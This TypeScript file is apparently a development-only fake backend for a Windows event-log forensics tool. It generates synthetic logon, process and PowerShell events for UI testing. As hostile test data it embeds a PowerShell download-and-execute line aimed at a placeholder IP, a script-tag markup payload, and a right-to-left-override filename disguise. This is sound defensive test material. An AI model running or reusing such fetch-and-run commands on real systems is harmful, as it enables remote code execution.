// Dev-only stand-in for the engine: a million events computed from their index (never stored),
// a fake ingest run, and hostile values (control characters, bidi overrides, markup, huge
// fields) so the UI can be exercised without the real backend. Loaded only by the Vite dev
// server with `?fake=1`.

import type {
  CaseCoverage,
  EventHistogram,
  HistogramRequest,
  ProcessSearch,
  ChainPage,
  ChainPageRequest,
  ProcessPage,
  ProcessPageRequest,
  Note,
  NoteInput,
  AppInfo,
  CaseOverview,
  ChainlineApi,
  CountRow,
  EventDetail,
  EventFilter,
  EventPage,
  EventQuery,
  EventRow,
  EvidenceFileInfo,
  IngestStatus,
  OpenEvidenceRequest,
  OpenEvidenceResult,
  PickResult,
} from '../../shared/api.js';
import { chainPageOf } from '../../shared/chain-page.js';
import { ticksToIso } from '../../shared/time.js';
import type { FindingQuery } from '../../shared/findings.js';
import type { NewAllowListEntry } from '../../shared/allowlist.js';
import { createFakeFindings } from './fake-findings.js';
import { sessionsLedTo } from '../../shared/chain-sessions.js';
import { fakeChain, fakeFindProcesses, fakeHostProcesses, fakeProcesses, fakeSessions } from './fake-sessions.js';

const HOSTS = ['WS01.corp.local', 'WS02.corp.local', 'DC01.corp.local', 'FILESRV.corp.local'] as const;
const CHANNELS = [
  { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', ids: [4624, 4625, 4634, 4672, 4688, 4720] },
  { channel: 'System', provider: 'Service Control Manager', ids: [7045, 7036, 7040] },
  { channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', ids: [1, 3, 11, 13] },
  { channel: 'Microsoft-Windows-PowerShell/Operational', provider: 'Microsoft-Windows-PowerShell', ids: [4104, 4103] },
] as const;
const BASE_TICKS = 17_092_512_000_000_000n; // 2024-02-29T… in 100 ns ticks since 1970
const USERS = ['alice', 'bob', 'svc_backup', 'Administrator', 'mallory'];

function mix(i: number): number {
  // A small integer hash so generated fields look random but are stable per index.
  let x = Math.imul(i ^ 0x9e3779b9, 0x85ebca6b);
  x ^= x >>> 13;
  x = Math.imul(x, 0xc2b2ae35);
  x ^= x >>> 16;
  return x >>> 0;
}

interface Shape {
  readonly host: string;
  readonly channel: string;
  readonly provider: string;
  readonly eventId: number;
}

function shapeOf(i: number): Shape {
  const h = mix(i);
  const c = CHANNELS[h % CHANNELS.length]!;
  return {
    host: HOSTS[(h >>> 4) % HOSTS.length]!,
    channel: c.channel,
    provider: c.provider,
    eventId: c.ids[(h >>> 8) % c.ids.length]!,
  };
}

function summaryOf(i: number, s: Shape): string {
  const h = mix(i + 7);
  const user = USERS[h % USERS.length]!;
  switch (i % 97) {
    case 13:
      return `Process created: C:\\Users\\${user}\\Downloads\\invoice\u202Efdp.exe (bell \u0007, NUL \u0000)`;
    case 29:
      return `ScriptBlock: <script>alert("x")</script>\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')`;
    default:
      break;
  }
  switch (s.eventId) {
    case 4624:
      return `Logon: ${user} type ${(h % 3) + 2} from 10.0.${h % 255}.${(h >>> 8) % 255}`;
    case 4625:
      return `Failed logon: ${user} (0xc000006a)`;
    case 4688:
    case 1:
      return `Process created: C:\\Windows\\System32\\${['cmd.exe', 'powershell.exe', 'rundll32.exe', 'whoami.exe'][h % 4]} by ${user}`;
    case 7045:
      return `Service installed: svc${h % 1000} ImagePath=C:\\ProgramData\\svc${h % 1000}.exe`;
    case 4104:
      return `ScriptBlock ${h % 50 + 1} of 50: Get-ChildItem -Path C:\\Users\\${user} -Recurse | Out-File x.txt`;
    default:
      return `${s.provider} event ${s.eventId} on ${s.host} (${user})`;
  }
}

function rowOf(i: number): EventRow {
  const s = shapeOf(i);
  const ticks = BASE_TICKS + BigInt(i) * 17_000_000n + BigInt(mix(i) % 9_999_999);
  return {
    id: i + 1,
    time: ticksToIso(ticks),
    timePrecision: s.channel === 'Microsoft-Windows-Sysmon/Operational' ? 'ms' : '100ns',
    host: s.host,
    channel: s.channel,
    provider: s.provider,
    eventId: s.eventId,
    recordId: i + 1000,
    summary: summaryOf(i, s),
    recovered: i % 1009 === 0,
  };
}

const delay = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));

export function createFakeApi(): ChainlineApi {
  const params = new URLSearchParams(window.location.search);
  const rowsParam = Number(params.get('rows') ?? '1000000');
  let count = params.get('empty') === '1' ? 0 : Number.isInteger(rowsParam) && rowsParam >= 0 ? Math.min(rowsParam, 20_000_000) : 1_000_000;
  const evidence: EvidenceFileInfo[] =
    count === 0
      ? []
      : [
          {
            id: 1, path: '/evidence/WS01/Security.evtx', format: 'evtx', size: 68_157_440,
            mtime: '2024-03-02T10:00:00.0000000Z',
            sha256: '9f2c4e1b7a3d5f6e8c0b1a2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f', status: 'complete',
            events: 600_000, errors: 0, recovered: 12, errorSamples: [], importedAt: '2024-03-05T09:00:00.0000000Z',
          },
          {
            id: 2, path: '/evidence/WS02/Microsoft-Windows-Sysmon%4Operational.evtx', format: 'evtx',
            size: 104_857_600, mtime: '2024-03-02T10:00:00.0000000Z',
            sha256: '0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9', status: 'incomplete',
            events: 400_000, errors: 3, recovered: 0,
            errorSamples: [
              '/evidence/WS02/Microsoft-Windows-Sysmon%4Operational.evtx offset 0x1a4000: chunk checksum mismatch',
              '/evidence/WS02/Microsoft-Windows-Sysmon%4Operational.evtx offset 0x1b2040: record size 0 is below the minimum',
              '/evidence/WS02/Microsoft-Windows-Sysmon%4Operational.evtx offset 0x3f0000: <b>markup</b> in \u0007 error text',
            ],
            importedAt: '2024-03-05T09:02:00.0000000Z',
          },
        ];
  let status: IngestStatus = {
    phase: 'idle', runId: 0, currentFile: null, filesDone: 0, filesTotal: 0, bytesDone: 0, bytesTotal: 0,
    events: 0, errors: 0, message: null,
  };
  let run: { start: number; paths: string[]; base: number; cancelled: boolean } | null = null;
  const RUN_MS = 6000;
  const RUN_EVENTS = 50_000;

  function tick(): void {
    if (!run) return;
    const t = Math.min(1, (Date.now() - run.start) / RUN_MS);
    const n = run.paths.length;
    const added = Math.floor(t * RUN_EVENTS);
    if (!run.cancelled) count = run.base + added;
    const phase = run.cancelled ? 'cancelled' : t >= 1 ? 'done' : t < 0.1 ? 'hashing' : t > 0.9 ? 'finishing' : 'reading';
    const filesDone = Math.min(n, Math.floor(t * n));
    status = {
      phase, runId: status.runId, currentFile: phase === 'done' || phase === 'cancelled' ? null : run.paths[Math.min(n - 1, filesDone)] ?? null,
      filesDone: phase === 'done' ? n : filesDone, filesTotal: n, bytesDone: Math.floor(t * 50_000_000 * n),
      bytesTotal: 50_000_000 * n, events: added, errors: Math.floor(added / 20_000),
      message: phase === 'cancelled' ? 'Cancelled by the user' : null,
    };
    if (phase === 'done' || phase === 'cancelled') {
      for (const p of run.paths) {
        evidence.push({
          id: evidence.length + 1, path: p, format: p.endsWith('.json') ? 'json' : 'evtx', size: 50_000_000,
          mtime: new Date().toISOString(), sha256: 'c0ffee'.padEnd(64, '0'),
          status: phase === 'done' ? 'complete' : 'incomplete', events: Math.floor(added / n), errors: 0, recovered: 0,
          errorSamples: [], importedAt: new Date().toISOString(),
        });
      }
      run = null;
    }
  }

  const detection = createFakeFindings(() => count);
  let lastFilterKey = '';
  let lastMatches: Int32Array | null = null;

  function matchesFor(filter: EventFilter): Int32Array | null {
    const active =
      (filter.eventIds?.length ?? 0) > 0 || (filter.hosts?.length ?? 0) > 0 ||
      (filter.channels?.length ?? 0) > 0 || (filter.text ?? '') !== '';
    if (!active) return null;
    const key = JSON.stringify(filter) + '|' + count;
    if (key === lastFilterKey && lastMatches) return lastMatches;
    const ids = filter.eventIds && filter.eventIds.length ? new Set(filter.eventIds) : null;
    const hosts = filter.hosts && filter.hosts.length ? new Set(filter.hosts) : null;
    const channels = filter.channels && filter.channels.length ? new Set(filter.channels) : null;
    const text = filter.text ? filter.text.toLowerCase() : null;
    const out = new Int32Array(count);
    let n = 0;
    for (let i = 0; i < count; i++) {
      const s = shapeOf(i);
      if (ids && !ids.has(s.eventId)) continue;
      if (hosts && !hosts.has(s.host)) continue;
      if (channels && !channels.has(s.channel)) continue;
      if (text && !summaryOf(i, s).toLowerCase().includes(text)) continue;
      out[n++] = i;
    }
    lastFilterKey = key;
    lastMatches = out.slice(0, n);
    return lastMatches;
  }

  function counts(pick: (s: Shape) => string | number): CountRow[] {
    // Sampled (every 97th event), scaled: good enough for a fake overview.
    const m = new Map<string, number>();
    for (let i = 0; i < count; i += 97) {
      const k = String(pick(shapeOf(i)));
      m.set(k, (m.get(k) ?? 0) + 97);
    }
    return [...m].map(([key, c]) => ({ key, count: c })).sort((a, b) => b.count - a.count);
  }

  const notes = new Map<string, Note>();
  let nextNoteId = 1;

  return {
    async getAppInfo(): Promise<AppInfo> {
      return { name: 'Chainline', version: '0.1.0-fake', nativeDialogs: false };
    },
    async listSessions() {
      await delay(60);
      return fakeSessions();
    },
    async getSessionChain(sessionId: string) {
      if (!/^f\d+$/.test(sessionId)) throw new Error(`the fake has no session ${sessionId}`);
      await delay(40);
      return fakeChain(sessionId);
    },
    async getSessionProcesses(sessionId: string) {
      if (!/^f\d+$/.test(sessionId)) throw new Error(`the fake has no session ${sessionId}`);
      await delay(40);
      return fakeProcesses(sessionId);
    },
    async getHostProcesses(host: string) {
      await delay(40);
      return fakeHostProcesses(host);
    },
    async findProcesses(query: ProcessSearch) {
      await delay(20);
      return fakeFindProcesses(query.text, query.limit);
    },
    // Detection: realistic findings over the fake sessions, an in-memory allow-list (fake-findings.ts).
    listFindings: (query: FindingQuery) => detection.listFindings(query),
    getFindingsSummary: () => detection.getFindingsSummary(),
    getAllowList: () => detection.getAllowList(),
    addAllowListEntry: (entry: NewAllowListEntry) => detection.addAllowListEntry(entry),
    removeAllowListEntry: (id: string) => detection.removeAllowListEntry(id),
    exportAllowList: () => detection.exportAllowList(),
    importAllowList: (yamlText: string) => detection.importAllowList(yamlText),
    getAttackLayer: () => detection.getAttackLayer(),
    getHuntingQueries: (findingId: string) => detection.getHuntingQueries(findingId),
    getBaselineCandidates: () => detection.getBaselineCandidates(),
    async getRuleStatus() {
      return null;
    },
    async createReport() {
      throw new Error('the fake API writes no reports; run chainline serve');
    },
    async exportCase() {
      throw new Error('the fake API writes no exports; run chainline serve');
    },
    async setRuleFolders() {
      throw new Error('the fake API loads no rules');
    },
    async pickEvidence(): Promise<PickResult> {
      return { kind: 'unsupported' };
    },
    async openEvidence(request: OpenEvidenceRequest): Promise<OpenEvidenceResult> {
      await delay(50);
      if (run) throw new Error('An import is already running');
      const accepted: string[] = [];
      const rejected: { path: string; reason: string }[] = [];
      for (const p of request.paths) {
        if (!p.startsWith('/')) rejected.push({ path: p, reason: 'not an absolute path' });
        else if (p.includes('missing')) rejected.push({ path: p, reason: 'no such file or folder' });
        else accepted.push(p);
      }
      const runId = status.runId + 1;
      status = { ...status, runId, phase: accepted.length ? 'hashing' : 'done', filesTotal: accepted.length, filesDone: 0 };
      if (accepted.length) run = { start: Date.now(), paths: accepted, base: count, cancelled: false };
      return { runId, accepted, rejected };
    },
    async getIngestStatus(): Promise<IngestStatus> {
      await delay(10);
      tick();
      return status;
    },
    async cancelIngest(): Promise<IngestStatus> {
      if (run) {
        tick();
        run.cancelled = true;
        tick();
      }
      return status;
    },
    async getCaseOverview(): Promise<CaseOverview> {
      await delay(80);
      tick();
      return {
        case: { dir: '/cases/fake', name: 'Fake case (1M generated events)', createdAt: '2024-03-05T09:00:00.0000000Z', demo: false },
        evidence: [...evidence],
        totalEvents: count,
        hosts: counts((s) => s.host),
        channels: counts((s) => s.channel),
        eventIds: counts((s) => s.eventId),
        firstTime: count ? rowOf(0).time : null,
        lastTime: count ? rowOf(count - 1).time : null,
      };
    },
    async queryEvents(query: EventQuery): Promise<EventPage> {
      await delay(20 + (mix(query.offset) % 60));
      tick();
      if (query.filter.text === 'fail') throw new Error('fake: the text filter "fail" always fails');
      const matches = matchesFor(query.filter);
      const total = matches ? matches.length : count;
      const rows: EventRow[] = [];
      for (let k = query.offset; k < Math.min(total, query.offset + query.limit); k++) {
        const pos = query.sort === 'asc' ? k : total - 1 - k;
        rows.push(rowOf(matches ? matches[pos]! : pos));
      }
      return { total, offset: query.offset, rows };
    },
    async getEventDetail(eventId: number): Promise<EventDetail> {
      await delay(30);
      const i = eventId - 1;
      if (i < 0 || i >= count) throw new Error(`no event with id ${eventId}`);
      const row = rowOf(i);
      const huge = i % 10 === 0;
      const data: Record<string, string> = {
        SubjectUserName: USERS[mix(i) % USERS.length]!,
        SubjectDomainName: 'CORP',
        LogonType: String((mix(i) % 3) + 2),
        CommandLine: `powershell.exe -NoProfile -EncodedCommand ${'SQBFAFgA'.repeat(huge ? 40_000 : 8)}`,
        Hostile: 'tab\there\u0007bell <b>bold</b> \u202Eexe.txt',
        Multiline: 'line one\r\nline two\nline three',
      };
      Object.assign(data, detection.dataOfEvent(eventId));
      const raw =
        `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="${row.provider}"/>` +
        `<EventID>${row.eventId}</EventID><TimeCreated SystemTime="${row.time}"/><EventRecordID>${row.recordId}</EventRecordID>` +
        `<Channel>${row.channel}</Channel><Computer>${row.host}</Computer></System><EventData>` +
        Object.entries(data).map(([k, v]) => `<Data Name="${k}">${v.slice(0, 2000)}</Data>`).join('') +
        `</EventData></Event>`;
      return {
        row,
        timeSource: 'SystemTime',
        system: {
          Provider: row.provider, EventID: String(row.eventId), Version: '2', Level: '0', Task: '12544',
          Opcode: '0', Keywords: '0x8020000000000000', TimeCreated: row.time, EventRecordID: String(row.recordId),
          ProcessID: '636', ThreadID: '4084', Channel: row.channel, Computer: row.host,
        },
        data,
        source: { file: '/evidence/WS01/Security.evtx', format: 'evtx', offset: 4096 + i * 512, length: 512, chunk: Math.floor(i / 100) },
        evidenceSha256: evidence[0]?.sha256 ?? ''.padEnd(64, '0'),
        raw,
        rawTruncated: huge,
        rawError: i % 7 === 3 ? 'evidence file changed since import (sha256 differs)' : null,
      };
    },
    async getEventHistogram(request: HistogramRequest): Promise<EventHistogram> {
      await delay(40);
      // Generated events are one per second from the first; bucket their indexes.
      const matches = matchesFor(request.filter);
      const total = matches ? matches.length : count;
      if (total === 0) return { from: null, to: null, counts: [], total: 0 };
      const first = matches ? matches[0]! : 0;
      const last = matches ? matches[matches.length - 1]! : count - 1;
      const counts = new Array<number>(request.buckets).fill(0);
      const span = last - first + 1;
      const step = Math.max(1, Math.floor(total / 20_000));
      for (let k = 0; k < total; k += step) {
        const i = matches ? matches[k]! : k;
        const b = Math.min(request.buckets - 1, Math.floor(((i - first) * request.buckets) / span));
        counts[b] = (counts[b] ?? 0) + step;
      }
      return { from: rowOf(first).time, to: rowOf(last).time, counts, total };
    },
    async listNotes(): Promise<readonly Note[]> {
      return [...notes.values()].sort((a, b) => b.updatedAt.localeCompare(a.updatedAt));
    },
    async saveNote(input: NoteInput): Promise<Note> {
      const key = input.target.kind + ':' + input.target.id;
      const now = new Date().toISOString();
      const old = notes.get(key);
      const note: Note = { ...input, tags: [...new Set(input.tags)], id: old?.id ?? nextNoteId++, createdAt: old?.createdAt ?? now, updatedAt: now };
      notes.set(key, note);
      return note;
    },
    async deleteNote(noteId: number): Promise<void> {
      for (const [k, n] of notes) if (n.id === noteId) notes.delete(k);
    },
    async getCoverage(): Promise<CaseCoverage> {
      await delay(40);
      return {
        hosts: HOSTS.map((host) => ({
          host,
          channels: CHANNELS.map((c) => ({ channel: c.channel, events: Math.floor(count / 16), first: rowOf(0).time, last: rowOf(Math.max(0, count - 1)).time })),
        })),
        processCreation: { events: Math.floor(count / 24), withCommandLine: 0 },
        sysmonEvents: Math.floor(count / 4),
        scriptBlockEvents: Math.floor(count / 8),
        clears: [],
        gaps: [],
        gapsTruncated: false,
      };
    },
    async getSessionChainPage(request: ChainPageRequest): Promise<ChainPage> {
      await delay(10);
      if (!/^f\d+$/.test(request.sessionId)) throw new Error(`the fake has no session ${request.sessionId}`);
      const all = fakeChain(request.sessionId);
      return chainPageOf(all, request.offset, request.limit);
    },
    async getProcessPage(request: ProcessPageRequest): Promise<ProcessPage> {
      await delay(10);
      if (request.scope !== 'host' && !/^f\d+$/.test(request.id)) throw new Error(`the fake has no session ${request.id}`);
      const all =
        request.scope === 'session'
          ? fakeProcesses(request.id)
          : request.scope === 'host'
            ? fakeHostProcesses(request.id)
            : sessionsLedTo(fakeChain(request.id), request.id).flatMap((id) => fakeProcesses(id));
      return { total: all.length, offset: request.offset, rows: all.slice(request.offset, request.offset + request.limit) };
    },
  };
}
